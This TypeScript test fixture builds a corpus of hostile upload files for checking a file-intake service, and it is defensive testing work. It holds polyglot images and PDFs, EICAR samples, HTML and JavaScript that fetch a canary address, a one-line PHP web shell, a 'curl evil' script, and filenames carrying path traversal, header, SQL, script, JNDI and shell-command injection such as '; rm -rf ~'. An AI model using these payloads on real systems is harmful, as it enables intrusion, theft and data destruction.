import { hostile, type Content, type HostileFile } from './hostile-file.ts';
import { hostilePdfs } from './hostile-pdfs.ts';
import { hostilePictures, sampleBmp, type Pictures } from './hostile-pictures.ts';
import { hostileSvgs } from './hostile-svgs.ts';
import { samplePdf, samplePicture } from '#testing/files/sample-files.ts';
import { eicar } from '#testing/services/stand-in-clamd.ts';

const extensions = ['jpg', 'jpeg', 'png', 'heic', 'heif', 'bmp', 'pdf', 'svg'] as const;

/** The whole corpus; its addresses point to `canary`, which must never be requested. */
export async function hostileFiles(canary: string): Promise<HostileFile[]> {
  const [png, jpeg] = [await samplePicture('png'), await samplePicture('jpeg')];
  return [
    ...foreignContents(canary),
    ...wrongNames({ png, jpeg }),
    ...polyglots({ png, jpeg }, canary),
    ...hostilePictures({ png, jpeg }),
    ...hostileSvgs(canary),
    ...hostilePdfs(canary),
    ...infected({ png, jpeg }),
    ...names(),
  ];
}

/** Contents of kinds that are not taken, under every name that is. */
function foreignContents(canary: string): HostileFile[] {
  const contents: Record<string, Content | readonly Content[]> = {
    'an HTML page': `<!doctype html><html><body><script src="${canary}"></script></body></html>`,
    'an HTML page without a doctype': `<html><img src=x onerror="fetch('${canary}')"></html>`,
    'an XHTML page': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>`,
    JavaScript: `fetch('${canary}');`,
    'a PHP script': `<?php system($_GET['c']); ?>`,
    'a shell script': '#!/bin/sh\ncurl evil\n',
    'a Windows program': ['MZ', new Uint8Array(200)],
    'a Linux program': ['\x7fELF', new Uint8Array(200)],
    'a ZIP archive': ['PK\x03\x04', new Uint8Array(200)],
    'a RAR archive': ['Rar!\x1a\x07\x00', new Uint8Array(200)],
    'a gzip file': ['\x1f\x8b\x08', new Uint8Array(200)],
    'a GIF': ['GIF89a', new Uint8Array(200)],
    'a WebP': ['RIFF\x20\x00\x00\x00WEBPVP8 ', new Uint8Array(200)],
    'a TIFF': ['II*\x00', new Uint8Array(200)],
    'an icon': ['\x00\x00\x01\x00\x01\x00', new Uint8Array(200)],
    'an MP4 film': ['\x00\x00\x00\x18ftypmp42', new Uint8Array(200)],
    'an AVIF': ['\x00\x00\x00\x18ftypavif', new Uint8Array(200)],
    'an old Word file': ['\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', new Uint8Array(600)],
    'a Java class': ['\xca\xfe\xba\xbe\x00\x00\x00\x34', new Uint8Array(200)],
    WebAssembly: ['\x00asm\x01\x00\x00\x00', new Uint8Array(200)],
    'an RTF text': '{\\rtf1\\ansi hello}',
    'an RSS feed': '<?xml version="1.0"?><rss version="2.0"><channel></channel></rss>',
    'plain text': 'hello world',
    zeros: new Uint8Array(1000),
    'one byte': 'x',
  };
  return Object.entries(contents).flatMap(([what, content]) =>
    extensions.map((extension) => hostile(`${what} as ${extension}`, `bild.${extension}`, content, 'unsupported')),
  );
}

/** Kinds that are taken, under the name of another. */
function wrongNames({ png, jpeg }: Pictures): HostileFile[] {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><rect width="5" height="5"/></svg>';
  const contents: [string, Content, string[]][] = [
    ['PNG', png, ['png']],
    ['JPEG', jpeg, ['jpg', 'jpeg']],
    ['PDF', samplePdf({ words: 'wrong' }), ['pdf']],
    ['SVG', svg, ['svg']],
    ['BMP', sampleBmp(4, 4), ['bmp']],
  ];
  return contents.flatMap(([kind, content, own]) =>
    extensions
      .filter((extension) => !own.includes(extension))
      .map((extension) => hostile(`${kind} as ${extension}`, `a.${extension}`, content, 'unsupported')),
  );
}

/** Files that are two things at once. What they are by their first bytes counts, and nothing is ever shown as the other. */
function polyglots({ png, jpeg }: Pictures, canary: string): HostileFile[] {
  const html = `<html><script src="${canary}"></script></html>`;
  const zip = 'PK\x03\x04........PK\x05\x06';
  const pdf = samplePdf({ words: 'polyglot' });
  const comment = Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from(`\xff\xfe\x00\x40${html.padEnd(62)}`, 'latin1'),
    jpeg.subarray(2),
  ]);
  return [
    hostile('JPEG with HTML after it', 'a.jpg', [jpeg, html], 'kept'),
    hostile('JPEG with HTML in a comment', 'a.jpg', comment, 'kept'),
    hostile('JPEG with a PDF after it', 'a.jpg', [jpeg, pdf], 'kept'),
    hostile('JPEG with a PDF after it, as PDF', 'a.pdf', [jpeg, pdf], 'unsupported'),
    hostile('PNG with HTML after it', 'a.png', [png, html], 'kept'),
    hostile('PNG with a ZIP after it', 'a.png', [png, zip], 'kept'),
    hostile('PNG with a program after it', 'a.png', [png, 'MZ', new Uint8Array(99)], 'kept'),
    hostile('PDF with HTML after it', 'a.pdf', [pdf, html], 'kept'),
    hostile('PDF with a ZIP after it', 'a.pdf', [pdf, zip], 'kept'),
    hostile('HTML before a PDF', 'a.pdf', [html, pdf], 'unsupported'),
    hostile('HTML before a PDF, as HTML', 'a.html', [html, pdf], 'unsupported'),
    hostile(
      'a bitmap that is JavaScript',
      'a.bmp',
      ['BM=1;', `fetch('${canary}')//`, new Uint8Array(60)],
      'unreadable',
    ),
    hostile('a ZIP before a PDF', 'a.pdf', [zip, pdf], 'unsupported'),
    hostile('a double ending', 'a.pdf.exe', pdf, 'unsupported'),
    hostile('a double ending the other way', 'a.exe.pdf', samplePdf({ words: 'double' }), 'kept'),
    hostile('an ending hidden by an override', 'a\u202Efdp.exe', pdf, 'unsupported'),
  ];
}

function infected({ png, jpeg }: Pictures): HostileFile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><desc><![CDATA[${eicar}]]></desc></svg>`;
  return [
    hostile('EICAR as it is', 'eicar.pdf', eicar, 'unsupported'),
    hostile('EICAR under its own name', 'eicar.com', eicar, 'unsupported'),
    hostile('EICAR after a PDF', 'a.pdf', [samplePdf(), eicar], 'infected'),
    hostile('EICAR after a PNG', 'a.png', [png, eicar], 'infected'),
    hostile('EICAR after a JPEG', 'a.jpg', [jpeg, eicar], 'infected'),
    hostile('EICAR after a BMP', 'a.bmp', [sampleBmp(8, 8), eicar], 'infected'),
    hostile('EICAR in a drawing', 'a.svg', svg, 'infected'),
  ];
}

/** Names made to leave their folder, break a header or deceive a reader; the files are in order. */
function names(): HostileFile[] {
  const hostileNames = [
    '../../../../etc/passwd.pdf',
    '..\\..\\windows\\system32\\a.pdf',
    '/etc/shadow.pdf',
    'C:\\autoexec.pdf',
    '\\\\server\\share.pdf',
    '....//....//a.pdf',
    '%2e%2e%2fa.pdf',
    '..%c0%afa.pdf',
    'a\u0000.pdf',
    'a\u0000b.exe\u0000.pdf',
    'a\r\nSet-Cookie: x=1\r\n.pdf',
    'a"; filename="b.exe.pdf',
    "a'; drop table documents; --.pdf",
    '<script>alert(1)</script>.pdf',
    '<img src=x onerror=alert(1)>.pdf',
    '${jndi:ldap://x}.pdf',
    '{{7*7}}.pdf',
    '`id`.pdf',
    '$(id).pdf',
    '| id.pdf',
    '; rm -rf ~.pdf',
    '-rf.pdf',
    '--help.pdf',
    '.pdf',
    '..pdf',
    'CON.pdf',
    'NUL.pdf',
    'aux.pdf',
    'COM1.pdf',
    'a:b.pdf',
    'a::$DATA.pdf',
    'a?.pdf',
    'a*.pdf',
    'a|b.pdf',
    '~.pdf',
    'desktop.ini.pdf',
    'a\u202Eexe.pdf',
    'a\u200B.pdf',
    '\uFEFFa.pdf',
    'e\u0301.pdf',
    '💥.pdf',
    '診断書.pdf',
    'Ω≈ç.pdf',
    'ﷺ.pdf',
    '\uD800.pdf',
    'a\u2028b.pdf',
    `${'a'.repeat(1000)}.pdf`,
    `${'💥'.repeat(300)}.pdf`,
    ' .pdf',
    'a .pdf',
    'a\tb.pdf',
    'a.PDF',
    'A.PdF',
    'a.b.c.d.pdf',
    '__proto__.pdf',
    'constructor.pdf',
    'null.pdf',
    'true.pdf',
    '0.pdf',
    '\u0007.pdf',
    '\u001b[31m.pdf',
  ];
  return hostileNames.map((name, index) =>
    hostile(`the name ${JSON.stringify(name).slice(0, 60)}`, name, samplePdf({ words: `name ${index}` }), 'kept'),
  );
}
